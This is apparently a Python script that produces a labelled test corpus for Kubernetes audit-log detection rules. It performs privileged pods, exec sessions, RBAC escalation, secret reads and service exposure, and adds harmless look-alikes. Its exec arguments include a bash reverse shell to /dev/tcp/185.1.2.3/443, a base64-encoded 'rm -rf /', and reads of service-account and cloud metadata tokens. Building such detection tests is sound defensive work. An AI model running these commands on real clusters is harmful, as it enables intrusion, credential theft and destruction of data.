"""Attacks in many forms, and what only looks like one.

Each deed is done by somebody of its own. What was done, which rules may tell it and
which records prove it is written beside the log:
  {"name", "rules": one of these must tell it at Low or above, "user", "evidence": [auditID]}
and for a look-alike, with "quiet": none of these rules (or no rule, for "*") may tell it
at Low or above; "calm": no alert of Medium or above may name it."""
import base64, itertools, json, os, subprocess, sys, tempfile, time
from client import (KINDS, KUBECTL, KUBECTL_OLD, Client, account, binding, config, create, group, path, place, pod_spec, role, secret, service, user, workload)
from identities import NODES, PETTY, SA, SUSPECTS, suspect_address
from setup import crd, namespace, webhook

LABELS = []
COUNT = itertools.count()
CURL, PYTHON, GO = 'curl/8.5.0', 'python-requests/2.32.3', 'Go-http-client/2.0'
RBAC = 'rbac.authorization.k8s.io'


def suspect(agent=KUBECTL, **more):
    i = next(COUNT)
    return Client(SUSPECTS[i], suspect_address(i), agent, **more)


def helper():
    """Who prepares what the deeds are done to: the platform itself, which no rule tells."""
    return Client('aksService', '172.31.28.7', 'addon-manager/v1')


def petty(i, **more): return Client(PETTY[i], '20.99.1.%d' % (10 + i), **more)


def note(name, ids, who, kind, rules):
    LABELS.append({'name': name, 'user': who, 'evidence': list(ids), kind: rules})


def deed(name, rules, do, c=None):
    """Does something that one of the rules must tell; do returns the first code that counts."""
    c = c or suspect()
    start = len(c.ids)
    code = do(c)
    code = code[0] if isinstance(code, tuple) else code
    if code is not None and not 100 <= code < 300:
        print('?', name, code)
    note(name, c.ids[start:], c.user, 'rules', [rules] if isinstance(rules, str) else list(rules))
    return c


def quiet(name, rules, do, c=None):
    """Does something harmless that none of the rules ('*': none at all) may tell."""
    c = c or suspect()
    start = len(c.ids)
    do(c)
    note(name, c.ids[start:], c.user, 'quiet', [rules] if isinstance(rules, str) else list(rules))


def calm(name, do, c=None):
    """Does something that may be told, at Low and not above."""
    c = c or suspect()
    start = len(c.ids)
    do(c)
    note(name, c.ids[start:], c.user, 'calm', [])


# Workloads that reach the node

def volume(where, ro=False):
    return {'volumes': [{'name': 'h', 'hostPath': {'path': where}}], 'container': {'volumeMounts': [{'name': 'h', 'mountPath': '/h', 'readOnly': ro}]}}


def spec_of(more):
    return pod_spec('fabrikam.azurecr.io/tools:1', 'main', **{k: (dict(v) if isinstance(v, dict) else v) for k, v in more.items()})


SECURITY = lambda **s: {'container': {'securityContext': s}}
BAD = {  # what -> (rule, what it adds to a pod's spec)
    'hostpid': ('pod-host-pid', {'hostPID': True}),
    'hostipc': ('pod-host-ipc', {'hostIPC': True}),
    'hostnetwork': ('pod-host-network', {'hostNetwork': True}),
    'privileged': ('privileged-container', SECURITY(privileged=True)),
    'cap-sys-admin': ('privileged-container', SECURITY(capabilities={'add': ['SYS_ADMIN']})),
    'cap-prefixed': ('privileged-container', SECURITY(capabilities={'add': ['CAP_SYS_PTRACE', 'CAP_SYS_ADMIN']})),
    'cap-lower': ('privileged-container', SECURITY(capabilities={'add': ['sys_admin']})),
    'cap-all': ('privileged-container', SECURITY(capabilities={'add': ['ALL']})),
    'root': ('sensitive-host-path', volume('/')),
    'root-read-only': ('sensitive-host-path', volume('/', True)),
    'root-slashes': ('sensitive-host-path', volume('//')),
    'root-dot': ('sensitive-host-path', volume('/./')),
    'etc': ('sensitive-host-path', volume('/etc/')),
    'etc-kubernetes': ('sensitive-host-path', volume('/etc/kubernetes/pki')),
    'etc-shadow': ('sensitive-host-path', volume('/etc//shadow', True)),
    'docker-socket': ('sensitive-host-path', volume('/var/run/docker.sock')),
    'containerd-socket': ('sensitive-host-path', volume('/run/containerd/containerd.sock', True)),
    'k3s-socket': ('sensitive-host-path', volume('/run/k3s/containerd/containerd.sock')),
    'crio-socket': ('sensitive-host-path', volume('/var/run/crio/crio.sock')),
    'var-run': ('sensitive-host-path', volume('/var/run/')),
    'proc': ('sensitive-host-path', volume('/proc/1')),
    'kubelet': ('sensitive-host-path', volume('/var/lib/kubelet/pki')),
    'kubelet-pods': ('sensitive-host-path', volume('/var/lib/kubelet/pods')),
    'etcd': ('sensitive-host-path', volume('/var/lib/etcd')),
    'var-log': ('sensitive-host-path', volume('/var/log')),
    'ssh': ('sensitive-host-path', volume('/home/azureuser/.ssh')),
    'root-home': ('sensitive-host-path', volume('/root')),
    'cron': ('sensitive-host-path', volume('/etc/cron.d')),
    'device': ('sensitive-host-path', volume('/dev/sda')),
    'cni': ('sensitive-host-path', volume('/opt/cni/bin')),
}
WAYS = ['Pod', 'generated', 'Deployment', 'DaemonSet', 'StatefulSet', 'ReplicaSet', 'ReplicationController', 'Job', 'CronJob', 'PodTemplate', 'applied', 'applied-pod',
        'strategic', 'merge', 'json', 'replace', 'init', 'raw']


def bad_workload(what, way, rule, more, ns='dev'):
    name = ('x-%s-%s' % (what, way)).lower()

    def do(c):
        spec = spec_of(more)
        if way in KINDS:
            return create(c, workload(way, ns, name, spec), '?fieldManager=kubectl-create&fieldValidation=Strict')
        if way == 'generated':
            pod = workload('Pod', ns, name, spec)
            pod['metadata'].pop('name')
            pod['metadata']['generateName'] = name + '-'
            return c.post(path('v1/pods', ns), pod)
        if way == 'raw':
            c.agent = CURL
            return create(c, workload('Pod', ns, name, spec))
        if way == 'init':
            spec['initContainers'] = [{**spec['containers'][0], 'name': 'first'}]
            spec['containers'] = [{'name': 'main', 'image': 'fabrikam.azurecr.io/tools:1'}]
            return create(c, workload('Pod', ns, name, spec))
        if way.startswith('applied'):
            o = workload('Pod' if way == 'applied-pod' else 'Deployment', ns, name, spec)
            return c.apply(place(o), o)
        plain = workload('Deployment', ns, name, pod_spec('fabrikam.azurecr.io/tools:1', 'main'), replicas=0)
        create(helper(), plain)
        if way == 'strategic':
            return c.patch(place(plain), {'spec': {'template': {'spec': spec}}})
        if way == 'merge':
            return c.patch(place(plain), {'spec': {'template': {'spec': spec}}}, 'merge')
        if way == 'json':
            ops = [{'op': 'replace', 'path': '/spec/template/spec/containers', 'value': spec.pop('containers')}]
            ops += [{'op': 'add', 'path': '/spec/template/spec/' + k, 'value': v} for k, v in spec.items()]
            return c.patch(place(plain), ops, 'json')
        if way == 'replace':
            return c.update(place(plain), lambda o: o['spec']['template']['spec'].update(spec))

    deed('workload %s by %s' % (what, way), rule, do)


def workloads():
    ways = itertools.cycle(WAYS)
    for what, (rule, more) in BAD.items():
        n = len(WAYS) if what in ('hostpid', 'privileged', 'root') else 4
        for _ in range(n):
            bad_workload(what, next(ways), rule, more)
    win = {'securityContext': {'windowsOptions': {'hostProcess': True, 'runAsUserName': 'NT AUTHORITY\\SYSTEM'}}, 'hostNetwork': True, 'nodeSelector': {'kubernetes.io/os': 'windows'}}
    for way in ('Pod', 'DaemonSet', 'strategic'):
        bad_workload('hostprocess', way, 'privileged-container', win)
    for what, source in (('hostpath', {'hostPath': {'path': '/'}}), ('local', {'local': {'path': '/var/lib/kubelet'}, 'nodeAffinity': {'required': {'nodeSelectorTerms': [{'matchExpressions': [{'key': 'a', 'operator': 'Exists'}]}]}}})):
        pv = {'apiVersion': 'v1', 'kind': 'PersistentVolume', 'metadata': {'name': 'x-' + what}, 'spec': {'capacity': {'storage': '1Gi'}, 'accessModes': ['ReadWriteOnce'], **source}}
        deed('volume ' + what, 'sensitive-host-path', lambda c: create(c, pv))
    deed('volume hostpath applied', 'sensitive-host-path', lambda c: c.apply(path('v1/persistentvolumes', None, 'x-applied'), {'apiVersion': 'v1', 'kind': 'PersistentVolume', 'metadata': {'name': 'x-applied'}, 'spec': {'capacity': {'storage': '1Gi'}, 'accessModes': ['ReadWriteOnce'], 'hostPath': {'path': '/etc/kubernetes'}}}))
    for n, rules in (('hostpid', 'pod-host-pid'), ('privileged', 'privileged-container')):  # to an old workload, by changing one word
        plain = workload('DaemonSet', 'dev', 'y-' + n, pod_spec('fabrikam.azurecr.io/tools:1', 'main', container={'securityContext': {'privileged': False}}, hostPID=False))
        create(helper(), plain)
        op = [{'op': 'add', 'path': '/spec/template/spec/hostPID', 'value': True}] if n == 'hostpid' else [{'op': 'replace', 'path': '/spec/template/spec/containers/0/securityContext/privileged', 'value': True}]
        deed('one word of a DaemonSet: ' + n, rules, lambda c: c.patch(place(plain), op, 'json'))
    master = helper()
    pods = [p['metadata']['name'] for p in master.get('/api/v1/namespaces/shop/pods?labelSelector=app%3Dcatalog')[1]['items']]
    debug = {'name': 'dbg', 'image': 'busybox', 'securityContext': {'privileged': True}}
    deed('debug container, strategic', 'debug-container-added', lambda c: c.patch(path('v1/pods', 'shop', pods[0], 'ephemeralcontainers'), {'spec': {'ephemeralContainers': [debug]}}))
    deed('debug container, JSON patch', 'debug-container-added', lambda c: c.patch(path('v1/pods', 'shop', pods[-1], 'ephemeralcontainers'), [{'op': 'add', 'path': '/spec/ephemeralContainers', 'value': [dict(debug, name='d2')]}], 'json'))
    deed('debug container, replace', 'debug-container-added', lambda c: c.update(path('v1/pods', 'shop', pods[0], 'ephemeralcontainers'), lambda o: o['spec'].setdefault('ephemeralContainers', []).append(dict(debug, name='d3'))))
    deed('a running pod\'s image', 'pod-image-changed', lambda c: c.patch(path('v1/pods', 'shop', pods[0]), {'spec': {'containers': [{'name': 'app', 'image': 'evil.example.net/app:1'}]}}))
    deed('a pod on a node of choice', 'pod-bound-to-node', lambda c: (create(c, workload('Pod', 'dev', 'unbound', pod_spec('fabrikam.azurecr.io/a:1', schedulerName='none'))),
                                                             c.post(path('v1/pods', 'dev', 'unbound', 'binding'), {'apiVersion': 'v1', 'kind': 'Binding', 'metadata': {'name': 'unbound'}, 'target': {'kind': 'Node', 'name': 'aks-nodepool1-31415926-vmss000001'}}))[1])
    harmless = [('/etc/localtime', True), ('/etc/ssl/certs', True), ('/dev/shm', False), ('/data/etc', False), ('/var/lib/app', False), ('/etcetera', False), ('/homework', False), ('/varnish', False)]
    for i, (p, ro) in enumerate(harmless):
        quiet('harmless path ' + p, ['sensitive-host-path'], lambda c: create(c, workload('Deployment', 'dev', 'ok-path-%d' % i, spec_of(volume(p, ro)))))
    for i, caps in enumerate((['NET_BIND_SERVICE'], ['CHOWN', 'SETUID'])):
        quiet('harmless capability %s' % caps, ['privileged-container'], lambda c: create(c, workload('Deployment', 'dev', 'ok-cap-%d' % i, spec_of(SECURITY(capabilities={'add': caps, 'drop': ['ALL']}, privileged=False)))))
    calm('a privileged workload is scaled', lambda c: c.patch(path('apps/v1/deployments', 'shop', 'privileged-agent', 'scale'), {'spec': {'replicas': 2}}, 'merge'))
    quiet('a privileged workload is labelled', '*', lambda c: c.patch(path('apps/v1/deployments', 'shop', 'privileged-agent'), {'metadata': {'labels': {'a': 'b'}}}))
    quiet('a privileged workload is put back as it was', '*', lambda c: c.update(path('apps/v1/deployments', 'shop', 'privileged-agent'), lambda o: None))
    quiet('a privileged workload is restarted', '*', lambda c: c.patch(path('apps/v1/deployments', 'shop', 'privileged-agent'), {'spec': {'template': {'metadata': {'annotations': {'kubectl.kubernetes.io/restartedAt': 'now'}}}}}))
    quiet('text that speaks of privileged pods', '*', lambda c: create(c, config('dev', 'docs', text='hostPID: true, privileged: true, hostPath: /, xmrig --donate-level 1, stratum+tcp://pool')))


# Sessions

def sessions():
    master = helper()
    name = lambda ns, app: master.get('/api/v1/namespaces/%s/pods?labelSelector=app%%3D%s' % (ns, app))[1]['items'][0]['metadata']['name']
    pod, dns = name('shop', 'frontend'), name('kube-system', 'coredns')
    for label, args, kw in (('WebSocket', ['sh'], {}), ('SPDY', ['bash'], {'spdy': True}), ('with a terminal', ['/bin/sh'], {'tty': True}), ('reverse shell', ['bash', '-c', 'bash -i >& /dev/tcp/185.1.2.3/443 0>&1'], {}),
                            ('encoded', ['sh', '-c', 'echo cm0gLXJmIC8= | base64 -d | sh'], {'spdy': True}), ('token', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], {}), ('metadata service', ['curl', '-H', 'Metadata: true', 'http://169.254.169.254/metadata/identity/oauth2/token'], {})):
        deed('exec, ' + label, 'exec-into-pod', lambda c: c.exec('shop', pod, *args, **kw))
    deed('exec into DNS', 'exec-into-pod', lambda c: c.exec('kube-system', dns, 'sh'))
    deed('kubectl cp out', 'exec-into-pod', lambda c: c.exec('shop', pod, 'tar', 'cf', '-', '/etc/passwd'))
    deed('kubectl cp in', 'exec-into-pod', lambda c: c.exec('shop', pod, 'tar', '-xmf', '-', '-C', '/tmp', spdy=True))
    deed('exec with curl', 'exec-into-pod', lambda c: c.exec('shop', pod, 'id'), suspect(CURL))
    deed('attach, WebSocket', 'attach-to-pod', lambda c: c.stream(path('v1/pods', 'shop', pod, 'attach') + '?stdin=true&stdout=true&tty=true'))
    deed('attach, SPDY', 'attach-to-pod', lambda c: c.stream(path('v1/pods', 'shop', pod, 'attach') + '?stdin=true&stdout=true', True))
    deed('port-forward, WebSocket', 'port-forward', lambda c: c.forward('data', 'postgres-0', 5432))
    deed('port-forward, SPDY', 'port-forward', lambda c: c.forward('data', 'redis-0', 6379, True))
    deed('exec is refused', 'exec-into-pod', lambda c: (c.exec('shop', pod, 'sh'), None)[1], petty(0))
    node = '/api/v1/nodes/aks-nodepool1-31415926-vmss000000'
    deed('run by the node\'s proxy', 'exec-into-pod', lambda c: c.call('POST', node + '/proxy/run/shop/%s/app?cmd=id' % pod))
    deed('exec by the node\'s proxy', 'exec-into-pod', lambda c: (c.stream(node + '/proxy/exec/shop/%s/app?command=sh&output=1' % pod), None)[1])
    for p in ('pods', 'containerLogs/shop/%s/app' % pod, 'runningpods/', 'configz', 'logs/', 'debug/pprof/', 'checkpoint/shop/x/y'):
        deed('node proxy ' + p, 'node-proxy', lambda c: (c.get(node + '/proxy/' + p), None)[1])
    deed('node proxy by its port', 'node-proxy', lambda c: (c.get('/api/v1/nodes/https:aks-nodepool1-31415926-vmss000000:10250/proxy/pods'), None)[1])
    deed('node proxy, two slashes', 'node-proxy', lambda c: (c.get(node + '/proxy//pods'), None)[1])
    for verb in ('GET', 'POST', 'PUT'):
        deed('pod proxy ' + verb, 'pod-or-service-proxy', lambda c: (c.call(verb, path('v1/pods', 'shop', pod + ':8080', 'proxy') + '/admin', '{}' if verb != 'GET' else None), None)[1])
    deed('service proxy', 'pod-or-service-proxy', lambda c: (c.get('/api/v1/namespaces/kubernetes-dashboard/services/https:kubernetes-dashboard:443/proxy/'), None)[1])
    quiet('reading a log', '*', lambda c: c.get(path('v1/pods', 'shop', pod, 'log')))
    quiet('describing a pod', '*', lambda c: (c.get(path('v1/pods', 'shop', pod)), c.get(path('v1/events', 'shop'))))


# Rights

ALL = [(['*'], ['*'], ['*'])]


def rights():
    me = lambda c: [user(c.user)]
    n = itertools.count()
    new = lambda: 'grant-%d' % next(n)
    admin = lambda c, name=None, ns=None, s=None: binding(name or new(), 'cluster-admin', s or me(c), ns)
    deed('cluster-admin, POST', 'cluster-admin-binding', lambda c: create(c, admin(c)))
    deed('cluster-admin, apply', 'cluster-admin-binding', lambda c: (lambda o: c.apply(place(o), o))(admin(c)))
    deed('cluster-admin, generateName', 'cluster-admin-binding', lambda c: (lambda o: (o['metadata'].update(generateName='g-'), o['metadata'].pop('name'), c.post(path(KINDS['ClusterRoleBinding']), o))[-1])(admin(c)))
    deed('cluster-admin, a service account', 'cluster-admin-binding', lambda c: create(c, admin(c, s=[account('dev', 'sandbox')])))
    deed('cluster-admin, a group', 'cluster-admin-binding', lambda c: create(c, admin(c, s=[group('everyone@fabrikam.com')])))
    deed('cluster-admin in a namespace', 'cluster-admin-binding', lambda c: create(c, admin(c, ns='payments')))
    deed('cluster-admin in kube-system, apply', 'cluster-admin-binding', lambda c: (lambda o: c.apply(place(o), o))(admin(c, ns='kube-system')))
    b = path(KINDS['ClusterRoleBinding'], None, 'old-admins-1')
    deed('a subject more, JSON patch', 'cluster-admin-binding', lambda c: c.patch(b, [{'op': 'add', 'path': '/subjects/-', 'value': user(c.user)}], 'json'))
    deed('a subject more, strategic patch', 'cluster-admin-binding', lambda c: c.patch(path(KINDS['ClusterRoleBinding'], None, 'old-admins-2'), {'subjects': [user('root2@fabrikam.com'), user(c.user)]}))
    deed('a subject more, merge patch', 'cluster-admin-binding', lambda c: c.patch(path(KINDS['ClusterRoleBinding'], None, 'old-admins-3'), {'subjects': [user(c.user)]}, 'merge'))
    deed('a subject more, PUT', 'cluster-admin-binding', lambda c: c.update(path(KINDS['ClusterRoleBinding'], None, 'old-admins-4'), lambda o: o['subjects'].append(user(c.user))))
    deed('a subject more, kubectl edit of the binding itself', 'cluster-admin-binding', lambda c: c.patch(path(KINDS['ClusterRoleBinding'], None, 'cluster-admin'), {'subjects': [group('system:masters'), user(c.user)]}))
    deed('masters by another role', 'cluster-admin-binding', lambda c: create(c, binding(new(), 'edit', [group('system:masters')])))
    for who in ('system:anonymous', 'system:unauthenticated', 'system:authenticated', 'system:serviceaccounts'):
        s = user(who) if who == 'system:anonymous' else group(who)
        deed('bound to ' + who, 'role-bound-to-everyone', lambda c: create(c, binding(new(), 'view', [s])))
        deed('bound in a namespace to ' + who, 'role-bound-to-everyone', lambda c: (lambda o: c.apply(place(o), o))(binding(new(), 'view', [s], 'shop')))
    deed('anonymous becomes a subject, JSON patch', 'role-bound-to-everyone', lambda c: c.patch(path(KINDS['ClusterRoleBinding'], None, 'old-view-1'), [{'op': 'replace', 'path': '/subjects/0', 'value': user('system:anonymous')}], 'json'))
    wide = {
        'everything': ALL, 'all verbs of secrets': [([''], ['secrets'], ['*'])], 'read secrets': [([''], ['secrets'], ['get', 'list'])], 'only get secrets': [([''], ['secrets', 'configmaps'], ['get'])],
        'watch secrets': [([''], ['secrets'], ['watch'])], 'escalate': [([RBAC], ['clusterroles'], ['escalate'])], 'bind': [([RBAC], ['roles', 'clusterroles'], ['bind'])],
        'impersonate': [([''], ['users', 'groups'], ['impersonate'])], 'impersonate accounts': [([''], ['serviceaccounts'], ['impersonate'])], 'impersonate extra': [(['authentication.k8s.io'], ['userextras/scopes', 'uids'], ['impersonate'])],
        'exec': [([''], ['pods/exec'], ['create'])], 'exec by get': [([''], ['pods', 'pods/exec'], ['get'])], 'node proxy': [([''], ['nodes/proxy'], ['get'])],
        'tokens': [([''], ['serviceaccounts/token'], ['create'])], 'bindings': [([RBAC], ['clusterrolebindings', 'rolebindings'], ['create', 'patch'])],
        'approvals': [(['certificates.k8s.io'], ['certificatesigningrequests/approval'], ['update']), (['certificates.k8s.io'], ['signers'], ['approve'])],
        'all of the core': [([''], ['*'], ['*'])], 'ephemeral containers': [([''], ['pods/ephemeralcontainers'], ['patch'])], 'all verbs, one group': [(['*'], ['*'], ['get', 'list', 'create'])],
        'webhooks': [(['admissionregistration.k8s.io'], ['mutatingwebhookconfigurations'], ['create', 'update'])],
        'subresource wildcard': [([''], ['*/exec'], ['*'])],
    }
    for i, (what, rules) in enumerate(wide.items()):
        name = 'wide-%d' % i
        deed('a role for ' + what, 'high-privilege-role', lambda c: create(c, role(name, rules)))
        if what in ('everything', 'escalate', 'bind', 'tokens', 'bindings'):
            deed('a role in a namespace for ' + what, 'high-privilege-role', lambda c: create(c, role(name, rules, 'team-a')))
    small = lambda nm: create(helper(), role(nm, [([''], ['configmaps'], ['get'])]))
    for how in ('strategic', 'merge', 'json', 'apply', 'put'):
        nm = 'grown-' + how
        small(nm)
        p = path(KINDS['ClusterRole'], None, nm)
        big = {'rules': [{'apiGroups': ['*'], 'resources': ['*'], 'verbs': ['*']}]}
        do = {'strategic': lambda c: c.patch(p, big), 'merge': lambda c: c.patch(p, big, 'merge'), 'json': lambda c: c.patch(p, [{'op': 'add', 'path': '/rules/-', 'value': big['rules'][0]}], 'json'),
              'apply': lambda c: c.apply(p, role(nm, ALL)), 'put': lambda c: c.update(p, lambda o: o.update(big))}[how]
        deed('a role grows by ' + how, 'high-privilege-role', do)
    small('grown-verb')
    deed('a verb more, JSON patch', 'high-privilege-role', lambda c: c.patch(path(KINDS['ClusterRole'], None, 'grown-verb'), [{'op': 'add', 'path': '/rules/0/verbs/-', 'value': '*'}, {'op': 'add', 'path': '/rules/0/resources/-', 'value': 'secrets'}], 'json'))
    deed('aggregated into view', 'role-aggregated', lambda c: create(c, role('agg-1', [([''], ['secrets'], ['get', 'list'])], labels={RBAC + '/aggregate-to-view': 'true'})))
    deed('aggregated into admin by a label', 'role-aggregated', lambda c: (create(helper(), role('agg-2', [([''], ['pods/exec', 'secrets'], ['*'])])), c.patch(path(KINDS['ClusterRole'], None, 'agg-2'), {'metadata': {'labels': {RBAC + '/aggregate-to-edit': 'true'}}}, 'merge'))[1])
    deed('a system role changed', ('system-role-changed', 'high-privilege-role'), lambda c: c.patch(path(KINDS['ClusterRole'], None, 'system:discovery'), [{'op': 'add', 'path': '/rules/-', 'value': {'apiGroups': [''], 'resources': ['secrets'], 'verbs': ['get']}}], 'json'))
    deed('the admin role changed', ('system-role-changed', 'high-privilege-role'), lambda c: c.patch(path(KINDS['ClusterRole'], None, 'admin'), {'aggregationRule': {'clusterRoleSelectors': [{'matchLabels': {'x': 'y'}}]}}, 'merge'))
    for i, what in enumerate(('clusterrolebindings', 'rolebindings')):
        p = path('%s/v1/%s' % (RBAC, what), 'web' if i else None)
        deed('delete one of ' + what, 'rbac-binding-deleted', lambda c: c.delete(p + '/' + ('devs-edit' if i else 'old-view-2')))
        deed('delete by selector of ' + what, 'rbac-binding-deleted', lambda c: c.delete(p + '?labelSelector=nothing%3Dhere'))
    for as_user, as_groups in (('system:serviceaccount:kube-system:generic-garbage-collector', []), ('system:admin', ['system:masters']), ('amara.abara@fabrikam.com', []), ('system:node:aks-nodepool1-31415926-vmss000000', ['system:nodes']), ('nobody', ['system:masters'])):
        c = suspect(headers={'Impersonate-User': as_user, **({'Impersonate-Group': as_groups[0]} if as_groups else {})})
        deed('as ' + as_user, 'impersonation-used', lambda c: (c.get('/api/v1/namespaces/shop/configmaps'), None)[1], c)
    c = suspect(headers={'Impersonate-User': SA + 'shop:cart'})
    deed('as a service account, a write', 'impersonation-used', lambda c: (create(c, config('shop', 'imp', a='b')), None)[1], c)
    c = petty(1, headers={'Impersonate-User': 'system:admin', 'Impersonate-Group': 'system:masters'})
    deed('impersonation is refused', 'impersonation-used', lambda c: (c.get('/api/v1/secrets'), None)[1], c)
    # look-alikes
    create(helper(), role('cluster-admin', [([''], ['configmaps'], ['get'])], 'team-a'))
    quiet('a Role that is called cluster-admin', ['cluster-admin-binding'], lambda c: create(c, binding('local-admin', 'cluster-admin', [user('x@fabrikam.com')], 'team-a', 'Role')))
    quiet('a role to read ConfigMaps', '*', lambda c: create(c, role('small-%s' % c.user[:10], [([''], ['configmaps', 'pods'], ['get', 'list', 'watch'])], 'team-a')))
    quiet('a binding to view for a person', ['cluster-admin-binding', 'role-bound-to-everyone'], lambda c: create(c, binding('view-x', 'view', [user('y@fabrikam.com')], 'team-a')))
    quiet('a label on the admins\' binding', '*', lambda c: c.patch(path(KINDS['ClusterRoleBinding'], None, 'old-admins-5'), {'metadata': {'labels': {'a': 'b'}}}))
    quiet('the admins\' binding put back', '*', lambda c: c.update(path(KINDS['ClusterRoleBinding'], None, 'old-admins-5'), lambda o: None))
    quiet('a group with a name like anonymous', ['role-bound-to-everyone'], lambda c: create(c, binding('anon-team', 'view', [group('team-anonymous')], 'team-a')))
    quiet('a role named after secrets', ['high-privilege-role'], lambda c: create(c, role('secrets-admin', [(['secrets.fabrikam.com'], ['secrets'], ['*'])], 'team-a')))


# Secrets and tokens

def secrets():
    deed('all secrets, kubectl', 'secrets-listed', lambda c: c.get('/api/v1/secrets?limit=500'))
    deed('all secrets, a table', 'secrets-listed', lambda c: c.call('GET', '/api/v1/secrets?limit=500', headers={'Accept': 'application/json;as=Table;v=v1;g=meta.k8s.io,application/json'}))
    deed('all secrets, watched', 'secrets-listed', lambda c: c.get('/api/v1/secrets?watch=true&timeoutSeconds=1'))
    deed('all secrets, the old watch address', 'secrets-listed', lambda c: c.get('/api/v1/watch/secrets?timeoutSeconds=1'))
    deed('all secrets, by a selector', 'secrets-listed', lambda c: c.get('/api/v1/secrets?fieldSelector=type%3Dkubernetes.io%2Fservice-account-token'))
    deed('secrets of kube-system', 'secrets-listed', lambda c: c.get('/api/v1/namespaces/kube-system/secrets'))
    deed('secrets by curl', ('secrets-read-by-script', 'secrets-listed'), lambda c: c.get('/api/v1/secrets'), suspect(CURL))
    deed('one secret by Python', 'secrets-read-by-script', lambda c: c.get(path('v1/secrets', 'payments', 'stripe-key')), suspect(PYTHON))
    deed('one secret by nothing', 'secrets-read-by-script', lambda c: c.get(path('v1/secrets', 'payments', 'stripe-key')), suspect(''))
    names = [(ns, s) for ns in ('shop', 'payments', 'web') for s in ('db-creds', 'stripe-key', 'web-session', 'smtp')]

    def one_by_one(c):
        for ns, s in names:
            c.get(path('v1/secrets', ns, s))
    deed('secrets one by one', 'secrets-read-in-bulk', one_by_one)

    def by_namespace(c):
        for ns in ('shop', 'payments', 'web', 'team-a', 'team-b', 'data'):
            c.get(path('v1/secrets', ns))
    deed('secrets namespace by namespace', 'secrets-read-in-bulk', by_namespace)

    def by_name_selector(c):
        for ns, s in names:
            c.get(path('v1/secrets', ns) + '?fieldSelector=metadata.name%3D' + s)
    deed('secrets one by one, by field selector', 'secrets-read-in-bulk', by_name_selector)

    def by_account(c):
        for ns, s in names:
            c.get(path('v1/secrets', ns, s))
    deed('secrets one by one, an account by curl', ('secrets-read-in-bulk', 'secrets-read-by-script'), by_account, Client(SA + 'kube-system:addon-a', '10.244.1.77', CURL))
    deed('secrets deleted together', ('collection-deleted',), lambda c: c.delete(path('v1/secrets', 'staging')))
    t = lambda ns, n, **spec: lambda c: c.post(path('v1/serviceaccounts', ns, n, 'token'), {'apiVersion': 'authentication.k8s.io/v1', 'kind': 'TokenRequest', 'spec': spec})
    deed('token for an account', 'service-account-token-minted', t('argocd', 'argocd-application-controller'))
    deed('token for ten years', 'service-account-token-minted', t('shop', 'cart', expirationSeconds=315360000))
    deed('token by curl', 'service-account-token-minted', t('kube-system', 'coredns', audiences=['vault']), suspect(CURL))
    deed('token for a controller', 'service-account-token-minted', t('kube-system', 'clusterrole-aggregation-controller'))
    sat = lambda ns, n, sa: {'apiVersion': 'v1', 'kind': 'Secret', 'type': 'kubernetes.io/service-account-token', 'metadata': {'name': n, 'namespace': ns, 'annotations': {'kubernetes.io/service-account.name': sa}}}
    deed('token as a Secret', 'long-lived-service-account-token', lambda c: create(c, sat('shop', 'cart-token', 'cart')))
    deed('token as a Secret, applied', 'long-lived-service-account-token', lambda c: c.apply(path('v1/secrets', 'shop', 'frontend-token'), sat('shop', 'frontend-token', 'frontend')))

    def generated(c):
        o = sat('web', 'x', 'portal')
        o['metadata'].pop('name')
        o['metadata']['generateName'] = 'portal-token-'
        return c.post(path('v1/secrets', 'web'), o)
    deed('token as a Secret, generateName', 'long-lived-service-account-token', generated)
    deed('pull secret', 'pull-secret-read', lambda c: (c.get(path('v1/secrets', 'shop', 'acr-pull-secret')), create(helper(), secret('shop', 'regcred', a='b')), c.get(path('v1/secrets', 'shop', 'regcred')))[-1])
    creds = 'db.user=app\ndb.password=Sup3rS3cret!\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIEXAMPLEKEY\n'
    create(helper(), config('dev', 'legacy', properties=creds))
    deed('credentials in a ConfigMap read', 'configmap-credentials', lambda c: c.get(path('v1/configmaps', 'dev', 'legacy')))
    deed('credentials into a ConfigMap', 'configmap-credentials', lambda c: create(c, config('dev', 'fresh', env=creds)))
    deed('credentials into a ConfigMap, patched', 'configmap-credentials', lambda c: c.patch(path('v1/configmaps', 'web', 'app-config'), {'data': {'DB_PASSWORD': 'hunter2hunter2'}}, 'merge'))
    deed('all ConfigMaps', 'configmap-credentials', lambda c: c.get('/api/v1/configmaps?limit=500'))
    quiet('one secret of one\'s own', '*', lambda c: c.get(path('v1/secrets', 'shop', 'db-creds')))
    quiet('a secret is made', '*', lambda c: create(c, secret('shop', 'fresh', a='b')))
    quiet('a ConfigMap about passwords', ['configmap-credentials'], lambda c: create(c, config('dev', 'policy', text='passwordPolicy: strong\nsecretName: db\nrotatePasswords: yes')))


# What is shown to the outside, and who comes from there

def exposure():
    n = itertools.count()
    new = lambda: 'svc-%d' % next(n)
    deed('NodePort', 'service-node-port', lambda c: create(c, service('web', new(), type='NodePort')))
    deed('NodePort, applied', 'service-node-port', lambda c: (lambda o: c.apply(place(o), o))(service('web', new(), type='NodePort')))
    deed('LoadBalancer', 'service-load-balancer', lambda c: create(c, service('web', new(), type='LoadBalancer')))
    deed('LoadBalancer, applied', 'service-load-balancer', lambda c: (lambda o: c.apply(place(o), o))(service('web', new(), type='LoadBalancer')))
    for rule, change in (('service-node-port', {'type': 'NodePort'}), ('service-load-balancer', {'type': 'LoadBalancer'}), ('service-external-ips', {'externalIPs': ['203.0.113.9']})):
        for how in ('strategic', 'merge', 'json', 'apply', 'put'):
            nm = new()
            create(helper(), service('web', nm))
            p = path('v1/services', 'web', nm)
            deed('%s by %s' % (rule, how), rule, {'strategic': lambda c: c.patch(p, {'spec': change}), 'merge': lambda c: c.patch(p, {'spec': change}, 'merge'),
                 'json': lambda c: c.patch(p, [{'op': 'add', 'path': '/spec/' + k, 'value': v} for k, v in change.items()], 'json'), 'apply': lambda c: c.apply(p, service('web', nm, **change)),
                 'put': lambda c: c.update(p, lambda o: o['spec'].update(change))}[how])
    deed('externalIPs', 'service-external-ips', lambda c: create(c, service('web', new(), externalIPs=['8.8.8.8'])))
    deed('an address by status', 'service-external-ips', lambda c: c.patch(path('v1/services', 'web', 'old-lb', 'status'), {'status': {'loadBalancer': {'ingress': [{'ip': '8.8.4.4'}]}}}, 'merge'))
